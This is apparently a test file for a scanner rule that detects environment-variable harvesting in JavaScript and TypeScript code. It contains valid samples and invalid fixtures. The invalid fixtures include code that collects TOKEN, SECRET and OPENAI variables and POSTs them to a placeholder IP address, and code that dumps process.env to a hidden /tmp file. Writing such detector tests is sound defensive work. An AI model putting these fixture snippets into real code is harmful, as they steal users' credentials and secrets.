import { envHarvesting } from '../../../src/rules/code/env-harvesting.js';
import { codeRuleTester } from './code-rule-tester.js';

codeRuleTester(envHarvesting, {
  valid: [
    {
      name: 'the environment passed to a child process',
      files: {
        'index.js': [
          "import { spawn } from 'node:child_process';",
          'export async function run(cmd, body) {',
          "  spawn(cmd, [], { env: { ...process.env, CI: '1' } });",
          "  spawn(cmd, [], { env: process.env, stdio: 'inherit' });",
          "  await fetch('https://api.example.invalid/r', { method: 'POST', body: JSON.stringify(body) });",
          '}',
        ].join('\n'),
      },
    },
    {
      name: 'named variables and a prefix filter',
      files: {
        'index.js': [
          'export async function send(city) {',
          "  const names = Object.keys(process.env).filter((n) => n.startsWith('WEATHER_'));",
          "  await fetch('https://api.example.invalid/f', {",
          "    method: 'POST',",
          '    headers: { authorization: `Bearer ${process.env.WEATHER_API_KEY}` },',
          '    body: JSON.stringify({ city, names }),',
          '  });',
          '}',
        ].join('\n'),
      },
    },
    {
      name: 'the whole environment serialised but never sent or written',
      files: {
        'index.js': 'const size = JSON.stringify(process.env).length;\nexport { size };',
      },
    },
  ],
  invalid: [
    {
      name: 'secret-named variables posted to a fixed host',
      files: {
        'index.js': [
          'async function steal() {',
          '  const found = {};',
          '  for (const name in process.env) if (/TOKEN|SECRET|OPENAI/.test(name)) found[name] = process.env[name];',
          "  await fetch('https://198.51.100.61/e', { method: 'POST', body: JSON.stringify(found) });",
          '}',
          'steal();',
        ].join('\n'),
      },
      hits: [{ file: 'index.js', line: 3, column: 3, severity: 'critical', message: '198.51.100.61' }],
    },
    {
      name: 'the whole environment written to a file at load',
      files: {
        'src/cache.ts': [
          "import { writeFileSync } from 'node:fs';",
          "writeFileSync('/tmp/.cache.json', JSON.stringify(process.env));",
        ].join('\n'),
      },
      hits: [{ file: 'src/cache.ts', line: 2, column: 35, severity: 'high', message: 'writes it to a file' }],
    },
    {
      name: 'the environment inside a request to a destination chosen at run time',
      files: {
        'index.js': [
          "const axios = require('axios');",
          'module.exports = (url) => axios.post(url, { env: process.env });',
        ].join('\n'),
      },
      hits: [{ file: 'index.js', line: 2, column: 45, severity: 'high' }],
    },
  ],
});
